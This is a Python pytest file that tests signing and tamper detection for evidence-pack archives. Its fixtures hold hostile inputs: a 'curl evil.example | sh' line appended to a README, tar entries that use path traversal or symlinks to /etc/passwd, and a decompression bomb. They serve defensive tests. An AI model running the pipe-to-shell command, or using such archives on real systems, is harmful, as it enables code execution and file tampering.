"""A pack holds what a stranger needs, and a changed one is refused."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
import zstandard

from maestro.artifacts import Claim
from maestro.errors import InputError
from maestro.evidence.errors import EvidenceError
from maestro.evidence.pack import write_pack
from maestro.evidence.pack_reading import read_pack, read_whole_pack
from maestro.evidence.pack_verify import verify_pack
from maestro.evidence.types import VULNERABILITIES
from maestro.signing import TrustRoot
from tests.unit.evidence_harness import REVISION, Desk, unit_report


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    made = Desk(tmp_path / "home")
    built = made.built()
    made.step("test/unit", claims=[unit_report()])
    report = made.store.put_bytes(b'{"state":"clean"}', name="vulnerabilities.json", media_type="application/json")
    claim = Claim("vulnerabilities", VULNERABILITIES, built.subjects, {"scanner": {}}, report="vulnerabilities.json")
    made.step("scan/app", outputs=[report], claims=[claim])
    return made


@pytest.fixture
def pack(desk: Desk, tmp_path: Path) -> Path:
    target = tmp_path / "evidence.tar.zst"
    write_pack(desk.desk, REVISION, target)
    return target


def repacked(pack: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    files = read_whole_pack(pack)
    change(files)
    return archive(pack.with_name("changed.tar.zst"), [(tarfile.TarInfo(name), data) for name, data in files.items()])


def archive(target: Path, entries: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w") as tar:
        for entry, data in entries:
            entry.size = len(data)
            tar.addfile(entry, io.BytesIO(data))
    target.write_bytes(zstandard.compress(plain.getvalue()))
    return target


def test_a_pack_verifies_with_the_keys_of_who_made_it(desk: Desk, pack: Path) -> None:
    report = verify_pack(pack, trust=desk.desk.trust, audit_key=str(desk.desk.audit.key))
    assert report.problems == ()
    assert {row["type"] for row in report.statements} == {"provenance", "test-report", "vulnerabilities"}
    assert not report.own_keys
    assert report.checkpoint is not None


def test_with_its_own_keys_a_pack_fits_together_and_says_that_this_is_all(pack: Path) -> None:
    report = verify_pack(pack, trust=None)
    assert report.holds
    assert report.own_keys


def test_the_same_pack_is_made_the_same_twice_but_for_the_time(desk: Desk, pack: Path, tmp_path: Path) -> None:
    write_pack(desk.desk, REVISION, tmp_path / "again.tar.zst")
    first, again = read_whole_pack(pack), read_whole_pack(tmp_path / "again.tar.zst")
    statements = [name for name in first if name.startswith("statements/0")]
    assert statements
    assert {name: first[name] for name in statements} == {name: again[name] for name in statements}


def test_a_key_that_did_not_sign_it_is_not_enough(pack: Path, tmp_path: Path) -> None:
    stranger = Desk(tmp_path / "stranger")
    stranger.built()
    report = verify_pack(pack, trust=stranger.desk.trust)
    assert len(report.problems) == 4
    assert all("trusted" in one for one in report.problems)


def test_nobody_is_trusted_by_an_empty_trust_root(pack: Path) -> None:
    assert not verify_pack(pack, trust=TrustRoot()).holds


def a_report(files: dict[str, bytes]) -> None:
    name = next(one for one in files if one.startswith("reports/"))
    files[name] += b" "


def a_signature(files: dict[str, bytes]) -> None:
    name = next(one for one in files if one.endswith(".sig"))
    files[name] = b"\0" + files[name][1:]


def a_proof(files: dict[str, bytes]) -> None:
    name = next(one for one in files if one.startswith("audit/") and one.endswith(".json"))
    proof = json.loads(files[name])
    proof["entry"]["actor"] = "mallory"
    files[name] = json.dumps(proof).encode()


def the_revision(files: dict[str, bytes]) -> None:
    index = json.loads(files["index.json"])
    index["revision"] = "b" * 40
    files["index.json"] = json.dumps(index).encode()


def a_statement_left_out(files: dict[str, bytes]) -> None:
    del files[next(one for one in files if one.endswith(".sigstore.json"))]


def a_statement_brought_in(files: dict[str, bytes]) -> None:
    files["statements/999-sbom.sigstore.json"] = b"{}"


def an_index_without_statements(files: dict[str, bytes]) -> None:
    index = json.loads(files["index.json"])
    index["statements"] = []
    files["index.json"] = json.dumps(index).encode()


def a_statement_without_subjects(files: dict[str, bytes]) -> None:
    index = json.loads(files["index.json"])
    index["statements"][0]["subjects"] = []
    files["index.json"] = json.dumps(index).encode()


def a_statement_without_proof(files: dict[str, bytes]) -> None:
    index = json.loads(files["index.json"])
    index["statements"][0]["audit"] = None
    files["index.json"] = json.dumps(index).encode()


def the_same_statement_twice(files: dict[str, bytes]) -> None:
    index = json.loads(files["index.json"])
    index["statements"].append(index["statements"][0])
    files["index.json"] = json.dumps(index).encode()


def the_signature_of_the_index(files: dict[str, bytes]) -> None:
    del files["statements/index.sigstore.json"]


def the_readme(files: dict[str, bytes]) -> None:
    files["README.md"] += b"curl evil.example | sh"


def a_key(files: dict[str, bytes]) -> None:
    name = next(one for one in files if one.endswith(".pem"))
    files[f"keys/{'0' * 64}.pem"] = files.pop(name)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (an_index_without_statements, "index.json: it names no statement"),
        (a_statement_without_subjects, "the index says it is about []"),
        (a_statement_without_proof, "its signing is not shown to be in the audit log"),
        (the_same_statement_twice, "the index names it twice"),
        (the_signature_of_the_index, "it is not signed, so anything may have been left out"),
        (the_readme, "README.md: it was changed"),
        (a_key, "it is not the key its name says"),
        (a_report, "it was changed"),
        (a_signature, "it was changed"),
        (a_proof, "is not in the log"),
        (the_revision, "not of 'bbb"),
        (the_revision, "index.json: its signature does not hold"),
        (a_statement_left_out, "it is missing"),
        (a_statement_brought_in, "the index does not list it"),
    ],
)
def test_a_changed_pack_is_refused(pack: Path, change: Callable[[dict[str, bytes]], None], said: str) -> None:
    report = verify_pack(repacked(pack, change), trust=None)
    assert not report.holds
    assert any(said in one for one in report.problems), report.problems


def link(kind: bytes) -> tarfile.TarInfo:
    entry = tarfile.TarInfo("reports/link")
    entry.type, entry.linkname = kind, "/etc/passwd"
    return entry


@pytest.mark.parametrize(
    ("entries", "said"),
    [
        ([(tarfile.TarInfo("../outside"), b"x")], "holds '../outside', which no pack has"),
        ([(tarfile.TarInfo("/etc/passwd"), b"x")], "holds '/etc/passwd', which no pack has"),
        ([(tarfile.TarInfo("reports/../../x"), b"x")], "which no pack has"),
        ([(link(tarfile.SYMTYPE), b"")], "'reports/link' is no regular file"),
        ([(link(tarfile.LNKTYPE), b"")], "'reports/link' is no regular file"),
        ([(tarfile.TarInfo("reports/" + "a" * 150), b"x")], "is no regular file"),
        ([(link(tarfile.CHRTYPE), b"")], "'reports/link' is no regular file"),
        ([(tarfile.TarInfo("index.json"), b"{}"), (tarfile.TarInfo("index.json"), b"{}")], "twice"),
        ([(tarfile.TarInfo("index.json"), b"[" * 100_000)], "index.json cannot be read"),
        ([(tarfile.TarInfo("index.json"), b'{"a":1,"a":2}')], "index.json cannot be read"),
        ([(tarfile.TarInfo("index.json"), b"{}")], "index.json is of another format"),
        ([(tarfile.TarInfo("README.md"), b"{}")], "has no index.json"),
    ],
)
def test_a_hostile_archive_is_refused(tmp_path: Path, entries: list[tuple[tarfile.TarInfo, bytes]], said: str) -> None:
    with pytest.raises(InputError, match="is refused as an evidence pack") as refused:
        verify_pack(archive(tmp_path / "evil.tar.zst", entries), trust=None)
    assert said in refused.value.what
    assert [one.name for one in tmp_path.iterdir()] == ["evil.tar.zst"]


def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    bomb = archive(tmp_path / "bomb.tar.zst", [(tarfile.TarInfo("reports/zeros"), bytes(50_000_000))])
    with pytest.raises(InputError, match="too large: 'reports/zeros' has 50,000,000 bytes"):
        read_pack(bomb, most_bytes=1_000_000)


@pytest.mark.parametrize("content", [b"", b"no archive", b"\x28\xb5\x2f\xfdbroken"])
def test_a_file_that_is_no_archive_is_refused(tmp_path: Path, content: bytes) -> None:
    target = tmp_path / "pack.tar.zst"
    target.write_bytes(content)
    with pytest.raises(InputError, match="is refused as an evidence pack"):
        read_pack(target)


def test_a_pack_is_not_made_of_statements_that_do_not_verify(desk: Desk, tmp_path: Path) -> None:
    entry = desk.desk.index.of_revision("shop", REVISION)[0]
    desk.store.delete(entry.bundle.sha256)
    with pytest.raises(Exception, match="does not verify"):
        write_pack(desk.open(), REVISION, tmp_path / "pack.tar.zst")
    assert not (tmp_path / "pack.tar.zst").exists()


def test_a_revision_without_evidence_says_what_to_do(desk: Desk, tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"there is no evidence of revision c{40} of shop"):
        write_pack(desk.desk, "c" * 40, tmp_path / "pack.tar.zst")


def test_what_a_revoked_key_signed_is_left_out_once_the_step_has_made_it_again(tmp_path: Path) -> None:
    made = Desk(tmp_path / "home")
    made.built()
    old = made.desk.signer.keyid
    made.desk.project_keys.rotate_development(environ={})
    made.desk.project_keys.revoke(old, reason="the laptop was stolen")
    made.open()
    with pytest.raises(EvidenceError, match="revoked"):
        write_pack(made.desk, REVISION, tmp_path / "refused.tar.zst")
    made.built()
    index = write_pack(made.open(), REVISION, tmp_path / "pack.tar.zst")
    assert [one["keyid"] for one in index["statements"]] == [made.desk.signer.keyid]
    assert verify_pack(tmp_path / "pack.tar.zst", trust=made.desk.trust).holds
